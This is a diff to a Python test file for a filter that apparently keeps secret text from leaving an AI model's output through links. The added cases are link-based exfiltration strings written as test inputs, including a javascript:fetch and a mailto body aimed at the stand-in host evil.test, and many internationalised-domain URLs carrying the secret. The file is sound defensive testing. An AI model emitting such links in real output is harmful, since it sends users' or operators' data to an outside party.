@@ -33,6 +33,19 @@ NONCE = "ab12cd34ef56"
         ("javascript:fetch('//evil.test/KNOWN')", Leak.LINK),
         ("mailto:eve@evil.test?body=KNOWN", Leak.LINK),
         ("请访问https://evil.test/KNOWN。", Leak.LINK),
+        ("www.例え.jp/?q=KNOWN", Leak.LINK),
+        ("例え.jp/?q=KNOWN", Leak.LINK),
+        ("KNOWN.例え.com", Leak.LINK),
+        ("https://例え.jp/?q=KNOWN", Leak.LINK),
+        ("https://evil.test/例え?q=KNOWN", Leak.LINK),
+        ("//www.例え.テスト/KNOWN", Leak.LINK),
+        ("www.カナ.jp/KNOWN", Leak.LINK),
+        ("เว็บไซต์.com/KNOWN", Leak.LINK),
+        ("www.เว็บไซต์.com/KNOWN", Leak.LINK),
+        ("参照：www.例え.jp/KNOWN。", Leak.LINK),
+        ("字" * 64 + ".jp/KNOWN", Leak.LINK),
+        ("https://docs.example/a?b=1例え.com/KNOWN", Leak.LINK),
+        ("[看](例え/KNOWN)", Leak.LINK),
     ],
 )
 def test_nothing_leaves_through_an_address(text: str, leak: Leak):
@@ -60,6 +73,7 @@ def test_html_leaves_as_text(text: str):
         "Great![1] More on www.fine.example.\n\n- one\n- two\n\n| a | b |\n| 1 | 2 |\n",
         "Füße, naïve, 你好世界。 क्या है? \u06a9\u062a\u0627\u0628\u200c\u0647\u0627 👩\u200d🚀",
         "你好世界" * 500 + "。",
+        "第3.5版について、1.インストール/削除。详见https://docs.example/a?b=1。รุ่น 2.0ใหม่ก็ดี",
         "",
     ],
 )
@@ -130,7 +144,7 @@ PARTS = st.sampled_from(
             "](",
         ),
         *(")", "<img ", "<T>", "a", " b", " 1", "You answer only from ", "the two markers. ", NONCE[:5], NONCE[5:]),
-        *("你好", "\u200b"),
+        *("你好", "\u200b", "例え", "字" * 30, "。", "www.", ".jp/KNOWN", "ไซต์", ":"),
     ]
 )
 
@@ -149,3 +163,20 @@ def test_a_stream_comes_out_as_the_whole_however_it_is_cut(parts: list[str], siz
     assert out + one.close() == whole.text
     assert one.leaks == whole.leaks
     assert "evil.test/" not in whole.text
+
+
+@pytest.mark.parametrize("size", [1, 7, 64, 2_000])
+@pytest.mark.parametrize("wide", [1, 63, 64, 65])
+@pytest.mark.parametrize("narrow", [937, 1_000, 1_001])
+def test_what_is_endless_is_so_however_it_is_cut(narrow: int, wide: int, size: int):
+    text = f"www.{'x' * (narrow - 4)}{'字' * wide}.jp/ and {'x' * narrow}{'字' * wide} end"
+    one = StreamFilter(SOURCES)
+    out = "".join([one.feed(text[start : start + size]) for start in range(0, len(text), size)]) + one.close()
+    whole = filter_text(text, SOURCES)
+    assert (out, one.leaks) == (whole.text, whole.leaks)
+
+
+def test_an_allowed_address_ends_where_a_script_without_spaces_goes_on():
+    filtered = filter_text("详见https://docs.example/a?b=1上的说明。", SOURCES)
+    assert filtered.text == "详见https://docs.example/a?b=1 上的说明。"
+    assert filter_text("www.a.example/b", ("请看www.a.example/b上的说明。",)).text == "www.a.example/b"
